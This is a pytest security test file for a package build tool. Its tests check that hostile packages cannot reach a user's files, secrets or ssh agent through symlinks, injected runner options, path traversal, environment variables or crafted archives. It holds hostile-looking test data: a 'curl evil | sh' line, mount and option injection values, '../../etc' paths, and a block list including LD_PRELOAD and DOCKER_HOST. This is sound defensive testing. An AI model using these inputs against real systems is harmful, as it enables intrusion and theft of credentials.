"""Packages that mean harm by what they say, and by the links they come with."""

from __future__ import annotations

import io
import os
import subprocess
import tarfile
from collections.abc import Mapping
from dataclasses import replace
from hashlib import sha256
from pathlib import Path

import pytest

from builder_subjects import Subject
from lapstrake.artifact.base import Origin, RunnerSpec
from lapstrake.artifact.builders.docker_container import client_environment, mounts_of
from lapstrake.artifact.builders.kept import KIND, KeptBuild
from lapstrake.artifact.builders.local import LocalBuilder
from lapstrake.artifact.builders.log import open_log
from lapstrake.artifact.builders.places import sources_folder
from lapstrake.artifact.builders.root import _binds
from lapstrake.artifact.builders.volume import read_id, volumes_of
from lapstrake.artifact.building.build import BuildRequest, build_artifacts
from lapstrake.artifact.building.workbench import building
from lapstrake.artifact.building.workshop import clean
from lapstrake.artifact.depot import Depot
from lapstrake.artifact.identity import identify
from lapstrake.artifact.inputs.checksum import covered_files, read_inputs
from lapstrake.artifact.keeping.entries import split_name
from lapstrake.artifact.keeping.status import Where, status_of
from lapstrake.artifact.manifest.project import read_project
from lapstrake.config.model import ArtifactsConfig, CacheConfig, Config
from lapstrake.errors import ArtifactError, ProjectError
from lapstrake.formats.keys import cache_key
from lapstrake.layer.store import LayerStore
from lapstrake.names import GuestPath
from lapstrake.progress import Silent

HEAD = '[package]\nname = "tool"\ntype = "package"\nversion = "1"\n'
BUILT = HEAD + '[platform]\nbuild = "echo stolen; mkdir -p out; echo x > out/x"\noutput = "out"\n'
BUILDS = ".nerves/artifacts/tool-linux_x86_64-1"


@pytest.fixture
def depot(tmp_path: Path) -> Depot:
    config = Config(
        work_dir=tmp_path / "work",
        cache=CacheConfig(download_dir=tmp_path / "downloads"),
        artifacts=ArtifactsConfig(folder=tmp_path / "kept"),
    )
    return Depot(config=config, environment={"HOST_ARCH": "x86_64"})


@pytest.fixture
def subject(tmp_path: Path) -> Subject:
    return Subject(name="local", builder=LocalBuilder(), folder=tmp_path, spec=RunnerSpec())


def package(tmp_path: Path, text: str) -> Path:
    folder = tmp_path / "package"
    folder.mkdir()
    (folder / "lapstrake.toml").write_text(text)
    return folder


LINKS = {
    "the log": (f"{BUILDS}/build.log", "precious"),
    "the archive's log": (f"{BUILDS}/archive.log", "precious"),
    "the build directory": (f"{BUILDS}/local", ""),
    "the build folder": (BUILDS, ""),
    "all build folders": (".nerves/artifacts", ""),
    "Nerves' folder": (".nerves", ""),
    "the volumes": (f"{BUILDS}/volumes", ""),
    "a volume": (f"{BUILDS}/volumes/cache", ""),
    "another version's build folder": (".nerves/artifacts/tool-linux_x86_64-0", ""),
}
"""What a package brings in a place where builds write, and what of the victim's it leads to."""


@pytest.mark.parametrize("link", LINKS)
def test_a_link_in_the_place_of_what_builds_write(tmp_path: Path, depot: Depot, link: str) -> None:
    """Neither building nor cleaning touches what it leads to."""
    home = tmp_path / "home"
    for file in (home / "precious", home / "artifacts/tool-linux_x86_64-1/f", home / "local/f"):
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text("mine")
    before = snapshot(home)
    name, target = LINKS[link]
    place = package(tmp_path, BUILT) / name
    place.parent.mkdir(parents=True, exist_ok=True)
    place.symlink_to(home / target)

    project = read_project(tmp_path / "package", depot=depot)
    old = name.endswith("-0")  # which only cleaning looks at
    for act in (clean_all, *(() if old else (build_all,))):
        with pytest.raises(ArtifactError, match=r"is a link to .*home"):
            act(project, depot)
    assert snapshot(home) == before
    place.unlink()
    build_all(project, depot)
    clean_all(project, depot)


@pytest.mark.skipif(os.geteuid() != 0, reason="mounting needs root")
def test_cleaning_unmounts_nothing_that_a_link_leads_to(tmp_path: Path, depot: Depot) -> None:
    disk = tmp_path / "disk"
    disk.mkdir()
    place = package(tmp_path, BUILT) / BUILDS / "x"
    place.parent.mkdir(parents=True)
    place.symlink_to(disk)
    subprocess.run(["mount", "-t", "tmpfs", "none", disk], check=True)
    try:
        clean_all(read_project(tmp_path / "package", depot=depot), depot)
        assert disk.is_mount()
        assert not place.is_symlink()
    finally:
        subprocess.run(["umount", disk], check=False)


def build_all(project: object, depot: Depot) -> None:
    build_artifacts(project, BuildRequest(force=True), depot, Silent())  # type: ignore[arg-type]


def clean_all(project: object, depot: Depot) -> None:
    clean(project, (), depot, Silent())  # type: ignore[arg-type]


def snapshot(folder: Path) -> Mapping[str, str]:
    return {
        str(each.relative_to(folder)): each.read_text() if each.is_file() else ""
        for each in sorted(folder.rglob("*"))
    }


def test_a_log_is_begun_anew_and_never_written_through_a_link(tmp_path: Path) -> None:
    victim = tmp_path / "bashrc"
    victim.write_text("mine")
    for make in (Path.symlink_to, Path.hardlink_to):
        make(tmp_path / "build.log", victim)
        with open_log(tmp_path / "build.log", Silent()) as log:
            log.output(b"curl evil | sh\n")
        assert victim.read_text() == "mine"
        (tmp_path / "build.log").unlink()


def test_work_folders_may_be_links(tmp_path: Path, subject: Subject) -> None:
    """Who has another disk for them makes a link; only those in packages are not followed."""
    (tmp_path / "disk").mkdir()
    (tmp_path / "builds").symlink_to(tmp_path / "disk")
    with building(subject.job(subject.package())):
        assert (tmp_path / "disk/tiny-portable-1.0/lock").exists()


@pytest.mark.parametrize(
    "runner",
    [
        'volumes = { v = "/x,type=bind,source=/" }',
        "volumes = { v = '/x\"' }",
        'volumes = { v = "/nerves/../../etc" }',
        'engine = "/package/evil"',
        'engine = "./docker"',
        'docker = { tag = "--config=/package/evil" }',
        'docker = { tag = "-v" }',
        'docker = { dockerfile = "../../Dockerfile" }',
    ],
)
def test_what_a_runner_may_not_be_told(tmp_path: Path, runner: str) -> None:
    folder = package(tmp_path, f"{BUILT}[runner]\n{runner}\n")
    with pytest.raises(ProjectError, match=r"lapstrake\.toml:9: runner"):
        read_project(folder, depot=Depot(config=Config(work_dir=tmp_path / "w"), environment={}))


def test_a_volumes_place_is_one_field(subject: Subject) -> None:
    """Whoever made the value: a comma in it begins no option of the engine."""
    spec = RunnerSpec(volumes={"v": GuestPath("/x,type=bind,source=/etc")})
    job = subject.job(replace(subject.package(), runner=spec))
    words = [word for word in mounts_of(job, volumes_of(job, "a" * 16)) if "etc" in word]
    assert words == [
        f'--mount=type=volume,source=tiny-{"a" * 16}-v,"target=/x,type=bind,source=/etc"'
    ]


def test_variables_of_packages_do_not_change_the_client(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HTTPS_PROXY", "http://ours")
    hers = {"CFLAGS": "-O2", "TOKEN": "t"}
    evil = dict.fromkeys(
        ("STORAGE_OPTS", "PODMAN_USERNS", "CONTAINERS_CONF", "REGISTRY_AUTH_FILE", "DOCKER_HOST",
         "HTTP_PROXY", "HTTPS_PROXY", "_CONTAINERS_USERNS_CONFIGURED", "NOTIFY_SOCKET",
         "LD_PRELOAD", "PATH"), "/package/evil",
    )  # fmt: skip
    assert client_environment({**hers, **evil}) == hers
    ours = {"HTTPS_PROXY": "http://ours"}
    assert client_environment(ours) == ours


def test_what_builds_write_is_for_nobody_else(subject: Subject) -> None:
    """A program with a set-id bit, which a build may make, would make whoever starts it us."""
    spec = RunnerSpec(volumes={"v": GuestPath("/v")})
    job = subject.job(replace(subject.package(), runner=spec))
    (job.downloads / "sources").mkdir(parents=True)  # as it was made before
    job.folder.mkdir(parents=True)
    places = [bind.source for bind in _binds(job) if bind.writable]
    assert len(places) == 2
    for place in places:
        assert 0o700 in {each.stat().st_mode & 0o777 for each in (place, place.parent)}


def test_fetched_packages_do_not_change_what_others_download(subject: Subject) -> None:
    mine = subject.job(subject.package())
    folders = {
        sources_folder(replace(mine, package=replace(mine.package, name=name, origin=origin)))
        for origin, name in (
            (Origin.PROJECT, "a"), (Origin.PATH, "b"), (Origin.FETCHED, "c"), (Origin.FETCHED, "d"),
        )
    }  # fmt: skip
    assert {each.name for each in folders} == {"sources", "sources.c", "sources.d"}


@pytest.mark.skipif(os.geteuid() != 0, reason="giving a folder away needs root")
def test_another_users_downloads_are_left_to_them(subject: Subject) -> None:
    job = subject.job(subject.package())
    theirs = job.downloads / "sources"
    theirs.mkdir(parents=True)
    os.chown(theirs, 1234, 1234)
    assert sources_folder(job).name == "sources.0"
    assert theirs.stat().st_mode & 0o777 == 0o755


@pytest.mark.parametrize("planted", ["data", "my-data", "../x", "a" * 15, "a" * 17, "a" * 15 + "-"])
def test_an_id_file_names_no_volume_of_others(tmp_path: Path, planted: str) -> None:
    """A package ``postgres`` with the id ``data`` would get, and remove, ``postgres-data``."""
    (tmp_path / ".docker_id").write_text(planted)
    with pytest.raises(ArtifactError, match="holds no id"):
        read_id(tmp_path)


def test_the_checksum_of_a_fetched_package_reads_nothing_of_ours(
    tmp_path: Path, depot: Depot
) -> None:
    """Its sites are told the checksum: it would tell what is in our files."""
    home = tmp_path / "home"
    home.mkdir()
    (home / "id_rsa").write_text("mine")
    text = HEAD + 'checksum = ["key", "home", "kept", "sub", "home/*", "**/id_rsa"]\n'
    links = {"key": str(home / "id_rsa"), "home": str(home), "kept": "sub/f"}
    folder = fetching(tmp_path, {"lapstrake.toml": text, "sub/f": "theirs"}, links)
    (tool,) = read_project(folder, depot=depot).packages
    assert covered_files(tool) == ("kept", "sub/f")
    assert read_inputs(tool).checksum == sha256(2 * sha256(b"theirs").digest()).hexdigest().upper()


def fetching(
    tmp_path: Path, files: Mapping[str, str], links: Mapping[str, str] | None = None, more: str = ""
) -> Path:
    """A project that fetches a package of these files."""
    with tarfile.open(tmp_path / "p.tar", "w") as tar:
        for name, link in (links or {}).items():
            entry = tarfile.TarInfo(f"p/{name}")
            entry.type, entry.linkname = tarfile.SYMTYPE, link
            tar.addfile(entry)
        for name, content in files.items():
            entry = tarfile.TarInfo(f"p/{name}")
            entry.size = len(content)
            tar.addfile(entry, io.BytesIO(content.encode()))
    digits = sha256((tmp_path / "p.tar").read_bytes()).hexdigest()
    return package(
        tmp_path,
        '[project]\nname = "app"\n[dependencies.tool]\n'
        f'url = "{(tmp_path / "p.tar").as_uri()}"\nsha256 = "{digits}"\n{more}',
    )


@pytest.mark.parametrize("allowed", [False, True])
def test_a_fetched_package_takes_no_agent_that_nobody_gave(
    tmp_path: Path, depot: Depot, allowed: bool
) -> None:
    """Its build could log in everywhere as the user."""
    more = '[overrides.tool]\nssh = "agent"\n' if allowed else ""
    folder = fetching(tmp_path, {"lapstrake.toml": BUILT + '[runner]\nssh = "agent"\n'}, more=more)
    project = read_project(folder, depot=depot)
    if allowed:
        build_all(project, depot)
        return
    with pytest.raises(ProjectError, match="asks for your ssh-agent") as told:
        build_all(project, depot)
    assert '[overrides.tool] ssh = "agent"' in told.value.resolution
    clean_all(project, depot)  # which needs no agent


def test_a_package_of_the_same_name_leaves_nothing_for_the_other(
    tmp_path: Path, depot: Depot
) -> None:
    """A build directory with all that the first one's build wrote would be gone on with."""
    folders = []
    for name, text in (("good", "echo good"), ("evil", "echo evil")):
        top = tmp_path / name
        top.mkdir()
        folder = fetching(top, {"lapstrake.toml": BUILT.replace("echo stolen", text)})
        (tool,) = read_project(folder, depot=depot).packages
        folders.append(depot.build_folder(tool, identify(tool, "A" * 64, depot.environment)))
    assert folders[0] != folders[1]
    for each in folders:
        assert split_name(each.name)[:2] == ("tool", "linux_x86_64")


@pytest.mark.parametrize(
    "source",
    ['git = "{home}"\ntag = "v1"', 'git = "file://{home}"\ntag = "v1"', 'git = "~/x"\ntag = "v1"',
     'url = "{home}/x.tar"\nsha256 = "{zeros}"', 'url = "FILE://{home}/x"\nsha256 = "{zeros}"'],
)  # fmt: skip
def test_a_fetched_package_fetches_nothing_of_ours(
    tmp_path: Path, depot: Depot, source: str
) -> None:
    """Builds would be shown a repository that nobody else may see."""
    needs = f"[dependencies.private]\n{source}\n".format(home=tmp_path / "home", zeros="0" * 64)
    folder = fetching(tmp_path, {"lapstrake.toml": HEAD + needs})
    with pytest.raises(ProjectError, match="leads out of what was fetched"):
        read_project(folder, depot=depot)


@pytest.mark.parametrize("pattern", ["../x", r"\.\./x", r"a/.\./../x"])
def test_a_checksums_entry_stays_in_its_package(tmp_path: Path, pattern: str) -> None:
    folder = package(tmp_path, f"{HEAD}checksum = ['{pattern}']\n")
    with pytest.raises(ProjectError, match="stay below its folder"):
        read_project(folder, depot=Depot(config=Config(work_dir=tmp_path / "w"), environment={}))


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("github_token", "ghp_secret"),
        ("xdg_runtime_dir", "{folder}"),
        ("xdg-config-home", "{folder}"),
        ("gnupghome", "{folder}"),
        ("nerves_dl_dir", "{folder}"),
        ("something_else", "secret"),
    ],
)
def test_a_package_is_not_what_a_variable_means_to_others(
    tmp_path: Path, depot: Depot, name: str, value: str
) -> None:
    """Its artifact would be shown to builds, or the value in a message, for how it is called."""
    folder = package(tmp_path, BUILT.replace('"tool"', f'"{name}"'))
    variable = name.upper().replace("-", "_")
    secrets = {**depot.environment, variable: value.format(folder=tmp_path)}
    seen = replace(depot, environment=secrets)
    project = read_project(folder, depot=seen)
    if variable == "SOMETHING_ELSE":
        with pytest.raises(ArtifactError) as told:
            status_of(project, project.packages[0], seen)
        assert "secret" not in str(told.value) + told.value.details + told.value.resolution
    else:
        assert status_of(project, project.packages[0], seen).where is Where.NOTHING


def test_a_kept_build_is_no_other_layer(tmp_path: Path, subject: Subject) -> None:
    """The file that names it may come with a package: no other layer is shown, or removed."""
    store = LayerStore(tmp_path / "layers")
    job = subject.job(subject.package())
    job.folder.mkdir(parents=True)
    found = []
    for kind, facts in (
        ("base", {}),
        (KIND, {"artifact": "other"}),
        (KIND, {"artifact": job.identity.name}),
    ):
        layer = store.make(
            cache_key("test", {"kind": kind, **facts}), kind=kind, facts=facts, fill=Path.mkdir
        )
        (job.folder / "root.json").write_text(f'{{"layer": "{layer.key.hex}"}}')
        found.append(KeptBuild(store, job).layer is not None)
        KeptBuild(store, job).remove()
        assert (store.find(layer.key) is None) == found[-1]
    assert found == [False, False, True]
    for nonsense in ('{"layer": "../../etc"}', "[]", "x"):
        (job.folder / "root.json").write_text(nonsense)
        assert KeptBuild(store, job).layer is None
